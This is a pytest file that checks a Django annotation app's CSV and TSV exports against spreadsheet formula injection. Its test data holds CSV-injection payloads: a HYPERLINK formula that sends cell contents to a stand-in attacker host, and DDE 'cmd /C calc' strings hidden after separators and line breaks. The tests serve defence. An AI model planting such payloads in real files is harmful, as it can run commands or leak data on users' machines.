"""Every CSV export neutralises cells a spreadsheet would run as formulas
(core/spreadsheet.py, OWASP's rule), and keeps numbers numbers.

The export tests fill every field a stranger can fill (a crowd worker's
comment and Prolific id, imported meeting and question ids, system and
evaluator names, the study's name) with a hostile value, download each export
the way a researcher does, and read it back with the csv module."""

from __future__ import annotations

import csv
import io
import math
import re
from decimal import Decimal

import pandas as pd
import pytest
from django.contrib.admin.helpers import ACTION_CHECKBOX_NAME
from django.urls import reverse

from annotator.actions.arrival import check_start_assignment
from annotator.actions.rating import check_complete_assignment, check_rate_item
from core.spreadsheet import FORMULA_STARTS, csv_text, frame_csv, neutralise, neutralise_frame
from corpus.models import Document, Question
from generation.models import System
from judging.models import Evaluator
from tests.analysis.report_csv import preamble_and_rows
from tests.annotator.conftest import make_study

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"x")'


# --- The rule ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        HYPERLINK,
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "-",
        "=",
        "-0.5",  # text from someone, even when it reads like a number
    ],
)
def test_text_that_starts_like_a_formula_gets_a_quote(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize(
    "text", ["", "GPT-4", "a=b", "5", "0.5", "'=already quoted", " =1+1", "user:12",
             "GPT-4, -0.5 (fine)", "a; b", "two\nlines"]
)  # fmt: skip
def test_other_text_is_unchanged(text):
    assert neutralise(text) == text


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("ok;=cmd|' /C calc'!A0", "ok;'=cmd|' /C calc'!A0"),
        ("a\n=1+1", "a\n'=1+1"),
        ("a\r\n@SUM(A1)", "a\r\n'@SUM(A1)"),
        ("a,+1", "a,'+1"),
        ('a;""=1', 'a;""\'=1'),  # quotes between: still the start of a cell
        ("a\t-1", "a\t'-1"),
        ("\t=1+1", "'\t'=1+1"),
    ],
)
def test_a_formula_start_after_a_separator_or_line_break_gets_a_quote(text, written):
    """Read with another separator (a semicolon locale, a tab) or split at a
    line break, each would start a cell with a formula."""
    assert neutralise(text) == written


@pytest.mark.parametrize("value", [-0.5, -3, Decimal("-1.25"), 0, 7.5, True, False, None])
def test_numbers_and_other_values_are_written_as_they_are(value):
    assert neutralise(value) is value


def test_csv_text_neutralises_header_and_cells_and_keeps_numbers():
    text = csv_text(
        ["id", "-rater", "comment", "score", "missing"],
        [{"id": 1, "-rater": -0.5, "comment": HYPERLINK, "score": -2, "extra": "=dropped"}],
    )
    header, row = list(csv.reader(io.StringIO(text)))
    assert header == ["id", "'-rater", "comment", "score", "missing"]
    assert row == ["1", "-0.5", "'" + HYPERLINK, "-2", ""]
    assert float(row[1]) == -0.5  # the number reads back as a number


@pytest.mark.parametrize("write", ["csv_text", "frame_csv"])
def test_a_semicolon_locale_spreadsheet_cannot_split_a_formula_out_of_a_text(write):
    """Where the list separator is ";", a spreadsheet splits the comma file at
    every semicolon outside a cell that starts with a quote: `ok;=cmd` in the
    middle of a line would become a cell "=cmd", and a line break inside a
    text would start the next line with "=1+1". Read with ",", ";" or a tab,
    no cell starts like a formula."""
    comment = "ok;=cmd|' /C calc'!A0 a\n=1+1"
    rows = [{"n": 1, "comment": comment, "score": 7}]
    if write == "csv_text":
        text = csv_text(["n", "comment", "score"], rows)
    else:
        text = frame_csv(pd.DataFrame(rows))
    assert text.splitlines()[1] == "1,\"ok;'=cmd|' /C calc'!A0 a"
    for separator in (",", ";", "\t"):
        cells = [c for line in csv.reader(io.StringIO(text), delimiter=separator) for c in line]
        assert not any(cell.startswith(FORMULA_STARTS) for cell in cells), (separator, cells)


def test_neutralise_frame_leaves_numeric_columns_numeric():
    frame = pd.DataFrame(
        {
            "score": [-0.5, 2.0, math.nan],
            "count": [-1, 2, 3],
            "name": ["=1+1", "plain", None],
            "kind": pd.Categorical(["@x", "y", "@x"]),
            "=col": [True, False, True],
        }
    )
    out = neutralise_frame(frame)
    assert list(out.columns) == ["score", "count", "name", "kind", "'=col"]
    assert out["score"].dtype == "float64" and out["count"].dtype == "int64"
    assert out["name"].tolist()[:2] == ["'=1+1", "plain"] and out["name"].isna().tolist()[2]
    assert out["kind"].tolist() == ["'@x", "y", "'@x"]
    assert frame["name"].tolist()[0] == "=1+1"  # the caller's frame is not changed
    rows = list(csv.reader(io.StringIO(frame_csv(frame), newline="")))
    assert rows[1] == ["-0.5", "-1", "'=1+1", "'@x", "True"]
    assert rows[3][0] == "" and rows[3][2] == ""


def test_a_carriage_return_inside_a_text_stays_inside_its_cell():
    frame = pd.DataFrame({"name": ["a\rb", "\r=1"], "n": [1, 2]})
    rows = list(csv.reader(io.StringIO(frame_csv(frame), newline="")))
    assert rows == [["name", "n"], ["a\rb", "1"], ["'\r'=1", "2"]]
    text = csv_text(["name"], [{"name": "a\rb"}])
    assert list(csv.reader(io.StringIO(text, newline=""))) == [["name"], ["a\rb"]]


# --- Every export, with hostile values in every stranger-fillable field -------------------------

HOSTILE = {
    # mid-line, read with ";" a cell starts with "=" unless neutralised inside;
    # after a line break, the next line does
    "comment": HYPERLINK + " ok;=cmd|' /C calc'!A0 a\n=1+1",
    "pid": "-2-3",  # a PROLIFIC_PID may start with "-"
    "system": "+cmd|' /C calc'!A0",
    "meeting": "@SUM(1+1)*cmd|' /C calc'!A0",
    "question_id": "\t=1+1",
    "evaluator": "=evil()",
    "study": "\r=2+5",
}


@pytest.fixture
def hostile(two_meetings, client, django_user_model):
    """A completed crowd rating whose every stranger-fillable field is hostile."""
    system = System.objects.order_by("name").first()
    System.objects.filter(pk=system.pk).update(name=HOSTILE["system"])
    document = Document.objects.order_by("external_id").first()
    Document.objects.filter(pk=document.pk).update(external_id=HOSTILE["meeting"])
    question = Question.objects.filter(document=document).order_by("order").first()
    Question.objects.filter(pk=question.pk).update(external_id=HOSTILE["question_id"])
    Evaluator.objects.filter(name="gold-human-eval").update(name=HOSTILE["evaluator"])
    study = make_study(name=HOSTILE["study"], raters=1)
    assignment = check_start_assignment(study, pid=HOSTILE["pid"])
    for position in range(1, len(assignment.item_order) + 1):
        check_rate_item(assignment, position, score=7 if position > 1 else 1, client_seconds=3.5)
    check_rate_item(assignment, 1, score="1", comment=HOSTILE["comment"])
    check_complete_assignment(assignment)
    admin = django_user_model.objects.create_superuser("boss", "b@example.org", "pw-boss-123")
    client.force_login(admin)
    return study


def read_back(text: str) -> tuple[list[str], list[list[str]]]:
    header, *rows = list(csv.reader(io.StringIO(text, newline="")))
    return header, rows


def assert_safe_with_any_separator(text: str) -> None:
    """Read as a semicolon-locale (or tab) spreadsheet reads a comma file: no
    cell of any line starts like a formula."""
    for separator in (";", "\t"):
        lines = list(csv.reader(io.StringIO(text, newline=""), delimiter=separator))
        cells = [cell for line in lines for cell in line]
        dangerous = [c for c in cells if c.startswith(FORMULA_STARTS) and not is_number(c)]
        assert not dangerous, (separator, dangerous)
        # and split plainly at every separator and line end, quotes or not
        for piece in re.split(r"[;\t\r\n]", text):
            bare = piece.lstrip('"')
            assert not (bare.startswith(FORMULA_STARTS) and not is_number(bare)), (separator, piece)


def is_number(cell: str) -> bool:
    try:
        return math.isfinite(float(cell))
    except ValueError:
        return False


def assert_safe(header: list[str], rows: list[list[str]]) -> set[str]:
    """No header or cell starts like a formula unless it is a number; returns
    every cell, header included."""
    cells = set(header) | {cell for row in rows for cell in row}
    dangerous = [c for c in cells if c.startswith(FORMULA_STARTS) and not is_number(c)]
    assert not dangerous, dangerous
    return cells


def column(header: list[str], rows: list[list[str]], name: str) -> list[str]:
    return [row[header.index(name)] for row in rows]


def test_study_exports_neutralise_hostile_values(client, hostile):
    study = hostile
    api_tidy = client.get(f"/api/studies/{study.pk}/export/tidy/").content.decode()
    api_wide = client.get(f"/api/studies/{study.pk}/export/wide/").content.decode()
    changelist = reverse("admin:annotator_study_changelist")
    admin_tidy = client.post(
        changelist, {"action": "export_tidy", ACTION_CHECKBOX_NAME: [study.pk]}
    ).content.decode()
    admin_wide = client.post(
        changelist, {"action": "export_wide", ACTION_CHECKBOX_NAME: [study.pk]}
    ).content.decode()
    assert api_tidy == admin_tidy and api_wide == admin_wide

    header, rows = read_back(api_tidy)
    cells = assert_safe(header, rows)
    assert_safe_with_any_separator(api_tidy)
    assert_safe_with_any_separator(api_wide)
    for field in ("comment", "pid", "system", "meeting", "question_id", "study"):
        assert neutralise(HOSTILE[field]) in cells, field
    assert "ok;'=cmd" in neutralise(HOSTILE["comment"])
    assert set(column(header, rows, "participant")) == {"'" + HOSTILE["pid"]}
    scores = [int(s) for s in column(header, rows, "score")]
    assert sorted(set(scores)) == [1, 7]  # numbers stay numbers
    assert all(float(s) >= 0 for s in column(header, rows, "seconds"))

    header, rows = read_back(api_wide)
    cells = assert_safe(header, rows)
    assert "'" + HOSTILE["pid"] in header  # a rater id as a column name
    for field in ("system", "meeting", "question_id"):
        assert neutralise(HOSTILE[field]) in cells, field
    assert {int(s) for s in column(header, rows, "'" + HOSTILE["pid"])} == {1, 7}


def test_report_exports_neutralise_hostile_values(client, hostile):
    # the hostile rater answered at once: flagged, so counted only on request
    query = f"?split=test2&mode=st&study={hostile.pk}&include_flagged=1"
    for fmt in ("csv", "csv-wide"):
        answer = client.get(f"/analysis/report/{query}&format={fmt}")
        assert answer.status_code == 200, answer.content
        # the report's CSVs open with the lines stating the selection, each one
        # quoted cell starting with "#" (safe: no formula starts with it)
        preamble, _ = preamble_and_rows(answer.content.decode())
        assert all(line.startswith("#") for line in preamble)
        text = answer.content.decode()
        assert text.count("\r\n", 0, text.index("response_id")) == len(preamble)  # a line each
        header, *rows = list(csv.reader(io.StringIO(text, newline="")))[len(preamble) :]
        cells = assert_safe(header, rows)
        assert_safe_with_any_separator(text)
        for field in ("system", "meeting", "question_id", "evaluator"):
            assert neutralise(HOSTILE[field]) in cells, (fmt, field)
        if fmt == "csv":
            assert "'" + HOSTILE["pid"] in column(header, rows, "rater")
            assert all(is_number(s) for s in column(header, rows, "score"))
        else:
            assert "'" + HOSTILE["evaluator"] in header  # an evaluator as a column name
            gold = [s for s in column(header, rows, "'" + HOSTILE["evaluator"]) if s]
            assert gold and all(is_number(s) for s in gold)


@pytest.mark.django_db
def test_the_sweep_report_tsv_neutralises_system_names(monkeypatch, capsys, two_meetings):
    """`sweep_report` prints a TSV that researchers paste into a sheet: a system
    named like a formula is written as text."""
    from django.core.management import call_command

    from analysis.management.commands import sweep_report
    from corpus.models import Dataset
    from generation.models import Sweep

    base = System.objects.create(name="base", model_name="m", backend="openai", config={})
    sweep = Sweep.objects.create(
        name="s", base_system=base, dataset=Dataset.objects.first(), mode="st", seeds=[2023]
    )
    rows = [{"system": HYPERLINK, "seeds": {2023: 5.0}, "mean": 5.0, "std": None}]
    monkeypatch.setattr(sweep_report, "sweep_table", lambda sweep, evaluator: rows)
    call_command("sweep_report", "--sweep", str(sweep.pk), "--evaluator", "metric: f1")
    lines = capsys.readouterr().out.splitlines()
    assert lines[1].split("\t") == ["'" + HYPERLINK, "5.00", "5.00", "-"]
